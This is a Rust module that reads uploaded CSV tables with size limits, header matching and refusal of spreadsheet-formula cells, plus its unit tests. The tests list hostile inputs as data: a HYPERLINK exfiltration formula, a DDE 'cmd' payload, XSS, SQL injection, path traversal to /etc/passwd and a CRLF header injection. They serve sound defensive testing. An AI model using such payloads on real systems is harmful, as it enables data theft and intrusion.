//! Uploaded tables, read at the border: CSV, and workbooks that [`workbook`] turns into it.
//!
//! Knows bytes, headers, rows and cells. Deliberately does not know what a column means: an importer
//! names its [`Column`]s and turns each [`Row`] into its own types, reporting what it cannot take as
//! [`RowError`]. Nothing is read in part: a table that breaks a limit or its own quoting is refused as
//! a whole, since from there on no cell can be trusted to stand under its header.

use std::borrow::Cow;

use records::Records;

pub use errors::{RowError, RowProblem, TableError};
pub use headers::{Column, UnknownHeader};

pub mod encoding;
mod errors;
mod headers;
mod records;
pub mod workbook;

/// How much a table may hold.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Limits {
    /// Bytes of the whole file.
    pub bytes: usize,
    /// Rows below the header, empty ones not counted.
    pub rows: usize,
    /// Cells in one row.
    pub columns: usize,
    /// Bytes of one cell.
    pub cell_bytes: usize,
}

impl Default for Limits {
    fn default() -> Self {
        Self {
            bytes: 16 * 1024 * 1024,
            rows: 100_000,
            columns: 60,
            cell_bytes: 32 * 1024,
        }
    }
}

/// A table as read: rows in good order, rows that cannot be, and what was left out.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Table<'a> {
    fields: Vec<Option<&'static str>>,
    /// Rows with a cell for each header, in order; empty rows are left out.
    pub rows: Vec<Row<'a>>,
    /// Rows with too few or too many cells, in order.
    pub row_errors: Vec<RowError>,
    /// Headers that no field knows; a warning.
    pub unknown_headers: Vec<UnknownHeader>,
}

impl Table<'_> {
    /// Whether the table has a column for the field: tells an empty cell, which may clear a value,
    /// from a column that is not there, which leaves it alone.
    #[must_use]
    pub fn has(&self, field: &str) -> bool {
        self.fields.iter().flatten().any(|known| *known == field)
    }
}

/// One row: the cells of known fields that hold something.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Row<'a> {
    number: usize,
    cells: Vec<(&'static str, Cow<'a, str>)>,
}

impl Row<'_> {
    /// Number of the row as a spreadsheet shows it.
    #[must_use]
    pub fn number(&self) -> usize {
        self.number
    }

    /// The trimmed text of a cell; none where it is empty or the table has no such column.
    #[must_use]
    pub fn get(&self, field: &str) -> Option<&str> {
        self.raw(field).map(str::trim)
    }

    /// [`Row::get`] where the cell must hold something.
    ///
    /// # Errors
    /// [`RowProblem::Missing`].
    pub fn required(&self, field: &'static str) -> Result<&str, RowError> {
        self.get(field)
            .ok_or_else(|| self.error(field, RowProblem::Missing))
    }

    /// [`Row::get`] for a field of text, in which no formula is taken.
    ///
    /// # Errors
    /// [`RowProblem::Formula`].
    pub fn text(&self, field: &'static str) -> Result<Option<&str>, RowError> {
        match self.raw(field) {
            Some(cell) if looks_like_formula(cell) => Err(self.error(field, RowProblem::Formula)),
            cell => Ok(cell.map(str::trim)),
        }
    }

    /// [`Row::text`] where the cell must hold something.
    ///
    /// # Errors
    /// [`RowProblem::Missing`], [`RowProblem::Formula`].
    pub fn required_text(&self, field: &'static str) -> Result<&str, RowError> {
        self.text(field)?
            .ok_or_else(|| self.error(field, RowProblem::Missing))
    }

    /// The report of a problem in this row's field.
    #[must_use]
    pub fn error(&self, field: &'static str, problem: impl Into<RowProblem>) -> RowError {
        RowError {
            row: self.number,
            field: Some(field),
            problem: problem.into(),
        }
    }

    fn raw(&self, field: &str) -> Option<&str> {
        let (_, cell) = self.cells.iter().find(|(known, _)| *known == field)?;
        Some(cell)
    }
}

/// Whether a spreadsheet program would compute this cell instead of showing it.
///
/// True for a phone number `+49 ...` and a negative number too: the caller decides for which fields
/// it asks.
// OWASP ASVS 5.0, 1.2.10
#[must_use]
pub fn looks_like_formula(cell: &str) -> bool {
    cell.starts_with(['\t', '\r'])
        || cell
            .trim_start()
            .starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠'])
}

/// Reads a CSV table: UTF-8 with or without BOM; `;`, `,` or tab as its header line has it; CRLF, LF
/// or CR; cells in quotation marks may hold separators, line breaks and doubled quotation marks.
///
/// The header is the first of the first six filled rows that names every column that is needed. Headers are matched trimmed and
/// in any case.
///
/// # Errors
/// [`TableError`], the first met.
pub fn read_table<'a>(
    bytes: &'a [u8],
    columns: &[Column],
    limits: &Limits,
) -> Result<Table<'a>, TableError> {
    let mut records = Records::of(bytes, limits)?;
    let (header, (fields, unknown_headers)) = header_of(&mut records, columns)?;
    let mut table = Table {
        fields,
        rows: Vec::new(),
        row_errors: Vec::new(),
        unknown_headers,
    };
    while let Some(cells) = records.next_filled()? {
        let row = records.row();
        if table.rows.len() + table.row_errors.len() == limits.rows {
            let limit = limits.rows;
            return Err(TableError::TooManyRows { row, limit });
        }
        let is_blank = |cell: &Cow<'_, str>| cell.trim().is_empty();
        // Empty cells beside the table are nobody's.
        if cells.len() >= header && cells.iter().skip(header).all(is_blank) {
            let known = table.fields.iter().zip(cells);
            table.rows.push(Row {
                number: row,
                cells: known
                    .filter_map(|(field, cell)| Some(((*field)?, cell)))
                    .filter(|(_, cell)| !cell.trim().is_empty())
                    .collect(),
            });
        } else {
            table.row_errors.push(RowError {
                row,
                field: None,
                problem: RowProblem::CellCount {
                    expected: header,
                    found: cells.len(),
                },
            });
        }
    }
    Ok(table)
}

/// Rows that are looked through for the headers: a title and a line of explanation may stand above them.
const HEADER_WITHIN: usize = 6;

/// How many headers there are, and what they mean: of the first row that has all that are needed. Where none has, the first row
/// with more than one cell filled is told, which is most like headers.
fn header_of(
    records: &mut Records<'_, '_>,
    columns: &[Column],
) -> Result<(usize, headers::Matched), TableError> {
    let mut refused: Option<(usize, TableError)> = None;
    for _ in 0..HEADER_WITHIN {
        let Some(cells) = records.next_filled()? else {
            break;
        };
        match headers::matched(&cells, columns) {
            Ok(matched) => return Ok((cells.len(), matched)),
            Err(error @ TableError::DuplicateHeader { .. }) => return Err(error),
            Err(error) => {
                let filled = cells.iter().filter(|cell| !cell.trim().is_empty()).count();
                let is_first = refused.is_none();
                if is_first
                    || refused
                        .as_ref()
                        .is_some_and(|(before, _)| *before < 2 && filled > 1)
                {
                    refused = Some((filled, error));
                }
            }
        }
    }
    Err(refused.map_or(TableError::Empty, |(_, error)| error))
}

/// A table whose columns are known only once it is read.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Sheet<'a> {
    /// The trimmed headers in the order of the file.
    pub headers: Vec<String>,
    /// Rows with a cell for each header, in order; empty rows are left out.
    pub rows: Vec<SheetRow<'a>>,
    /// Rows with too few or too many cells, in order.
    pub row_errors: Vec<RowError>,
}

/// A row of a [`Sheet`].
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SheetRow<'a> {
    /// Number of the row as a spreadsheet shows it.
    pub number: usize,
    cells: Vec<Cow<'a, str>>,
}

impl SheetRow<'_> {
    /// The trimmed text of the cell under the header at this place; empty where there is none.
    #[must_use]
    pub fn cell(&self, place: usize) -> &str {
        self.cells.get(place).map_or("", |cell| cell.trim())
    }
}

/// Reads a CSV table as [`read_table`] does, without matching its headers.
///
/// # Errors
/// [`TableError`], the first met.
pub fn read_sheet<'a>(bytes: &'a [u8], limits: &Limits) -> Result<Sheet<'a>, TableError> {
    let mut records = Records::of(bytes, limits)?;
    let headers = records.next_filled()?.ok_or(TableError::Empty)?;
    let mut sheet = Sheet {
        headers: headers.iter().map(|h| h.trim().to_owned()).collect(),
        rows: Vec::new(),
        row_errors: Vec::new(),
    };
    while let Some(cells) = records.next_filled()? {
        let number = records.row();
        if sheet.rows.len() + sheet.row_errors.len() == limits.rows {
            let limit = limits.rows;
            return Err(TableError::TooManyRows { row: number, limit });
        }
        if cells.len() == headers.len() {
            sheet.rows.push(SheetRow { number, cells });
        } else {
            sheet.row_errors.push(RowError {
                row: number,
                field: None,
                problem: RowProblem::CellCount {
                    expected: headers.len(),
                    found: cells.len(),
                },
            });
        }
    }
    Ok(sheet)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_sheet_has_its_headers_and_the_cells_under_them() {
        let limits = Limits {
            rows: 2,
            ..Limits::default()
        };
        let text = "\u{feff} D1 ;Liste \"A\";\n1; 2 ;3\n\n1;2\n";
        let sheet = read_sheet(text.as_bytes(), &limits).expect("a sheet");
        assert_eq!(sheet.headers, ["D1", "Liste \"A\"", ""]);
        let row = &sheet.rows[0];
        assert_eq!((row.number, row.cell(1), row.cell(9)), (2, "2", ""));
        assert_eq!((sheet.rows.len(), sheet.row_errors[0].row), (1, 4));
        let more = format!("{text}7;8;9\n");
        let refused = Err(TableError::TooManyRows { row: 5, limit: 2 });
        assert_eq!(read_sheet(more.as_bytes(), &limits), refused);
        assert_eq!(read_sheet(b"\n;\n", &limits), Err(TableError::Empty));
    }

    const COLUMNS: [Column; 3] = [
        Column::required("ags", &[]),
        Column::required("name", &[]),
        Column::optional("phone", &[]),
    ];

    fn read(text: &str) -> Result<Table<'_>, TableError> {
        read_table(text.as_bytes(), &COLUMNS, &Limits::default())
    }

    fn table(text: &str) -> Table<'_> {
        read(text).expect("a table")
    }

    /// The first row of a table with these cells under `ags;name;phone`.
    fn row_of(cells: &str) -> Row<'static> {
        let text: &'static str = format!("ags;name;phone\n{cells}").leak();
        table(text).rows.remove(0)
    }

    #[test]
    fn a_table_without_a_header_is_refused() {
        for text in ["", "\u{feff}", "\n\r\n\r", " ;;\n\t", "\"\";\"\""] {
            assert_eq!(read(text), Err(TableError::Empty), "{text:?}");
        }
    }

    #[test]
    fn a_header_without_rows_is_a_table() {
        assert_eq!(table("ags;name\n").rows, []);
    }

    #[test]
    fn a_title_above_the_headers_and_empty_cells_beside_the_table_are_left_out() {
        let text =
            "Mitgliederliste 2026;;;\n\nStand:;4.5.2026;;\nAGS;Name;;\n1;A;;;;\n\n2;B;;\n3;C;;x\n";
        let table = table(text);
        let names = table.rows.iter().map(|row| (row.number(), row.get("name")));
        assert!(names.eq([(5, Some("A")), (7, Some("B")), (8, Some("C"))]));
        // What stands beside the table with something in it is a mistake.
        let beside = read("ags;name\n1;A;x\n").expect("a table");
        assert_eq!((beside.rows.len(), beside.row_errors.len()), (0, 1));
        // Seven rows down nobody looks, and the refusal names the row that looks like headers.
        let far = format!("Titel;\nags;phone\n{}ags;name\n", "x;y\n".repeat(5));
        let Err(TableError::MissingHeaders { missing, found }) = read(&far) else {
            panic!("a table")
        };
        assert_eq!(
            (missing, found),
            (vec!["name"], vec!["ags".to_owned(), "phone".to_owned()])
        );
    }

    #[test]
    fn a_row_with_another_number_of_cells_is_reported_and_the_others_are_read() {
        let table = table("ags;name\n1;A\n2\n\n3;C;c\n4;D");
        let report = |row, found| RowError {
            row,
            field: None,
            problem: RowProblem::CellCount { expected: 2, found },
        };
        assert_eq!(table.row_errors, [report(3, 1), report(5, 3)]);
        let names = table.rows.iter().map(|row| (row.number(), row.get("name")));
        assert!(names.eq([(2, Some("A")), (6, Some("D"))]));
        assert_eq!(report(5, 3).to_string(), "row 5: 3 cells under 2 headers");
    }

    #[test]
    fn an_empty_cell_differs_from_an_absent_column() {
        let with_column = table("ags;name;phone\n1;A; \u{a0}");
        let without_column = table("ags;name\n1;A");
        assert_eq!(with_column.rows[0].get("phone"), None);
        assert_eq!(without_column.rows[0].get("phone"), None);
        assert!(with_column.has("phone"));
        assert!(!without_column.has("phone"));
    }

    #[test]
    fn a_required_cell_must_hold_something() {
        let row = row_of("08111000;\u{3000};");
        assert_eq!(row.required("ags"), Ok("08111000"));
        let missing = RowError {
            row: 2,
            field: Some("name"),
            problem: RowProblem::Missing,
        };
        assert_eq!(row.required("name"), Err(missing.clone()));
        assert_eq!(row.required_text("name"), Err(missing.clone()));
        assert_eq!(row.text("name"), Ok(None));
        assert_eq!(missing.to_string(), "row 2, name: is missing");
    }

    #[test]
    fn a_formula_is_refused_where_text_is_asked_for_and_only_there() {
        for formula in [
            "\"=HYPERLINK(\"\"http://x?\"\"&A1)\"",
            "+cmd|' /C calc'!A0",
            "@SUM(1)",
            "-2+3",
            "  =1+1",
            "\u{a0}=1+1",
            "\tx",
            "\"\rx\"",
            "\"\n=1\"",
            "＝1+1",
            "＋1",
            "－1",
            "＠SUM(1)",
            "+49 711 123456",
            "-3",
        ] {
            let row = row_of(&format!("08111000;{formula};{formula}"));
            let refused = Err(row.error("name", RowProblem::Formula));
            assert_eq!(row.text("name"), refused, "{formula:?}");
            assert!(row.required_text("name").is_err(), "{formula:?}");
            assert!(row.get("phone").is_some(), "{formula:?}");
        }
        assert_eq!(row_of("1;A;+49 711 1").get("phone"), Some("+49 711 1"));
    }

    #[test]
    fn hostile_text_that_is_no_formula_is_read_as_it_is() {
        let zalgo = format!("Z{}", "\u{300}".repeat(500));
        for text in [
            "<script>alert(1)</script>",
            "' autofocus onfocus=alert(1) x='",
            "javascript:alert(1)",
            "{{7*7}}",
            "<style>*{display:none}</style>",
            "name \u{202e}eman",
            "М\u{430}ria",
            "zero\u{200d}width",
            &zalgo,
            "👩🏽‍🏫 عائشة İpek ẞ",
            "a\u{2028}b",
            "' OR 1=1--",
            "%' ESCAPE '%",
            "../../../../etc/passwd",
            "x =1+1",
            "#import",
        ] {
            let row = row_of(&format!("1;{text};"));
            assert_eq!(row.text("name"), Ok(Some(text)), "{text:?}");
        }
        let row = row_of("1;\"'); DROP TABLE urn;--\r\nSet-Cookie: x=1\";");
        let text = "'); DROP TABLE urn;--\r\nSet-Cookie: x=1";
        assert_eq!(row.required_text("name"), Ok(text));
    }

    #[test]
    fn a_hundred_thousand_rows_are_taken_and_not_one_more() {
        let full = format!("ags;name\n{}", "08111000;Stuttgart\n\n".repeat(100_000));
        assert_eq!(table(&full).rows.len(), 100_000);
        let (row, limit) = (200_002, 100_000);
        let error = Err(TableError::TooManyRows { row, limit });
        assert_eq!(read(&format!("{full}1;A\n")), error);
        assert_eq!(read(&format!("{full}broken\n")), error);
    }

    #[test]
    fn a_cell_of_32_kilobytes_is_taken_and_a_name_of_a_megabyte_is_not() {
        let name = "n".repeat(32 * 1024);
        assert_eq!(row_of(&format!("1;{name};")).get("name"), Some(&*name));
        let text = format!("ags;name\n1;{}", "n".repeat(1_000_000));
        let (row, column, limit) = (2, 2, 32 * 1024);
        let error = TableError::CellTooLong { row, column, limit };
        assert_eq!(read(&text), Err(error));
    }

    #[test]
    fn sixty_columns_are_taken_and_not_one_more() {
        let sixty = format!("ags;name{}", ";x".repeat(58));
        assert_eq!(table(&sixty).unknown_headers.len(), 58);
        let (row, limit) = (1, 60);
        let error = Err(TableError::TooManyColumns { row, limit });
        assert_eq!(read(&format!("{sixty};x")), error);
    }
}
